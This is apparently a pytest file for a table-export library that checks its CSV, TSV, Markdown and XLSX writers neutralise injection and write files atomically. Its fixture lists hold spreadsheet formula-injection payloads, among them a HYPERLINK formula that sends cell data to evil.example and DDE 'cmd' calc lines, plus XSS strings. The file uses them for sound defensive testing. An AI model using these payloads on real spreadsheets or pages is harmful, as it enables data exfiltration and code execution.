"""Outputs that are safe to open and safe to interrupt.

- CSV/TSV: a text cell a spreadsheet would run as a formula is written after a ``'`` (and
  read back without it); numbers, negative ones included, stay numbers.
- Markdown: no cell is HTML to a CommonMark renderer.
- XLSX: the same table gives the same bytes, whatever the clock says.
- Every format: a write that fails or is interrupted leaves the previous file as it was and
  no partial file, under the final name or beside it.
"""

from __future__ import annotations

import csv
import errno
import io
import re
import time
from pathlib import Path

import pandas as pd
import pytest

from claimtab.frame import claims_frame
from claimtab.io import writers
from claimtab.io.formats import TABLE_FORMATS
from claimtab.io.tables import read_table
from claimtab.io.writers import ExportError, atomic_path, check_target, write_table, write_text

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-0.5",
]
HTML = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    '<a href="javascript:alert(3)">x</a>',
    "<svg/onload=alert(4)>",
    "<iframe srcdoc='<script>alert(5)</script>'>",
    "&lt;script&gt;alert(6)&lt;/script&gt;",
    "<br>not a break, and a | pipe",
    "a < b > c & d",
]


def _claims(texts: list[str]) -> pd.DataFrame:
    return claims_frame(
        [
            {"paper_id": f"p{i}", "title": t, "kind": "delta", "value": -0.3 - i, "unit": "pp", "metric": t,
             "text": t, "start": 0, "end": 3}
            for i, t in enumerate(texts)
        ]
    )


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_delimited_cells_never_start_a_formula(tmp_path: Path, fmt: str) -> None:
    df = _claims(FORMULAS)
    path = tmp_path / f"claims.{fmt}"
    write_table(df, path)
    text = path.read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter="\t" if fmt == "tsv" else ","))
    header, body = rows[0], rows[1:]
    value = header.index("value")
    for row in body:
        for i, cell in enumerate(row):
            if i == value:
                assert float(cell) < 0 and cell.startswith("-")  # a negative number stays a number
            else:
                assert not cell.startswith(writers.FORMULA_START), (header[i], cell)
    back = read_table(path)
    assert back["text"].tolist() == FORMULAS  # the ' comes off again, and only it
    pd.testing.assert_frame_equal(back, df)


def test_a_plain_number_written_as_text_is_not_quoted(tmp_path: Path) -> None:
    df = pd.DataFrame({"reported": ["-0.3", "+2", "-1e-3", "-0.3%", "-x"], "n": [-1, -2, -3, -4, -5]})
    path = tmp_path / "report.csv"
    write_table(df, path)
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines[1:] == ["-0.3,-1", "+2,-2", "-1e-3,-3", "'-0.3%,-4", "'-x,-5"]
    assert read_table(path)["reported"].tolist() == df["reported"].tolist()


def test_markdown_holds_no_html(tmp_path: Path) -> None:
    from markdown_it import MarkdownIt

    df = _claims(HTML)
    path = tmp_path / "claims.md"
    write_table(df, path)
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(path.read_text(encoding="utf-8"))
    tags = re.findall(r"<\s*/?\s*([a-zA-Z][\w-]*)([^>]*)>", html)
    assert {name.lower() for name, _ in tags} <= {"table", "thead", "tbody", "tr", "th", "td", "br"}, tags
    assert all(not attrs.strip(" /") for _, attrs in tags), tags  # no href, no onerror, no srcdoc
    assert "alert(1)" in html  # the payloads are there, as text
    pd.testing.assert_frame_equal(read_table(path), df)


def test_xlsx_is_the_same_bytes_whatever_the_clock(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import datetime as dt

    import openpyxl.writer.excel as excel

    df = _claims(["a", "b"])
    write_table(df, tmp_path / "a.xlsx")
    later = time.time() + 3 * 86400
    monkeypatch.setattr(time, "time", lambda: later)

    class Later(dt.datetime):
        @classmethod
        def now(cls, tz=None):
            return dt.datetime.fromtimestamp(later, tz)

    monkeypatch.setattr(excel.datetime, "datetime", Later)
    write_table(df, tmp_path / "b.xlsx")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    pd.testing.assert_frame_equal(read_table(tmp_path / "b.xlsx"), df)


def _leftovers(folder: Path, keep: str) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name != keep)


@pytest.mark.parametrize("fmt", TABLE_FORMATS)
@pytest.mark.parametrize("failure", [OSError(errno.ENOSPC, "No space left on device"), KeyboardInterrupt()])
def test_a_failed_write_keeps_the_previous_file(tmp_path: Path, monkeypatch, fmt: str, failure) -> None:
    path = tmp_path / f"claims.{fmt}"
    write_table(_claims(["old"]), path)
    before = path.read_bytes()
    real = writers._write_file

    def half_then_fail(df, tmp, *args):
        real(df, tmp, *args)
        with open(tmp, "r+b") as f:
            f.truncate(max(1, tmp.stat().st_size // 2))
        raise failure

    monkeypatch.setattr(writers, "_write_file", half_then_fail)
    if isinstance(failure, OSError):
        with pytest.raises(ExportError, match="No space left on device") as info:
            write_table(_claims(["new", "rows"] * 50), path)
        assert "\n" not in str(info.value)
    else:
        with pytest.raises(KeyboardInterrupt):
            write_table(_claims(["new", "rows"] * 50), path)
    assert path.read_bytes() == before
    assert _leftovers(tmp_path, path.name) == []


def test_a_new_file_keeps_the_permissions_of_the_old(tmp_path: Path) -> None:
    path = tmp_path / "claims.csv"
    write_table(_claims(["a"]), path)
    path.chmod(0o640)
    write_table(_claims(["b"]), path)
    assert path.stat().st_mode & 0o777 == 0o640 and "b" in path.read_text(encoding="utf-8")


def test_a_link_is_followed_not_replaced(tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    write_table(_claims(["a"]), real)
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    write_table(_claims(["b"]), link)
    assert link.is_symlink() and "b" in real.read_text(encoding="utf-8")


def test_atomic_path_and_write_text(tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    write_text("<p>old</p>", page)
    with pytest.raises(RuntimeError), atomic_path(page) as tmp:
        tmp.write_text("<p>half", encoding="utf-8")
        raise RuntimeError("boom")
    assert page.read_text(encoding="utf-8") == "<p>old</p>" and _leftovers(tmp_path, page.name) == []
    with pytest.raises(ExportError, match="No such file or directory"):
        write_text("x", tmp_path / "no" / "such" / "page.html")
    assert not (tmp_path / "no").exists()


def test_check_target(tmp_path: Path) -> None:
    src = tmp_path / "papers.jsonl"
    src.write_text("{}\n", encoding="utf-8")
    with pytest.raises(ExportError, match="also an input"):
        check_target(src, [str(src)])
    (tmp_path / "alias.jsonl").symlink_to(src)
    with pytest.raises(ExportError, match="also an input"):
        check_target(tmp_path / "alias.jsonl", [str(src)])
    with pytest.raises(ExportError, match="is a folder"):
        check_target(tmp_path, [])
    with pytest.raises(ExportError, match="is not a folder"):
        check_target(src / "x.csv", [])
    check_target(tmp_path / "new" / "dir" / "x.csv", [str(src)])
    assert not (tmp_path / "new").exists() and _leftovers(tmp_path, "papers.jsonl") == ["alias.jsonl"]


@pytest.mark.parametrize("fmt", ["csv", "tsv", "jsonl", "json", "parquet"])
def test_line_breaks_inside_cells_survive(tmp_path: Path, fmt: str) -> None:
    """A carriage return (left bare by ``csv.writer``) and U+2028/U+0085 (split by
    ``str.splitlines``) stay inside their cell."""
    texts = ["a\rb", "a\r\nb", "x\u2028y", "p\x85q", "tab\there", '"quoted", and, commas']
    df = _claims(texts)
    path = tmp_path / f"claims.{fmt}"
    write_table(df, path)
    pd.testing.assert_frame_equal(read_table(path), df)
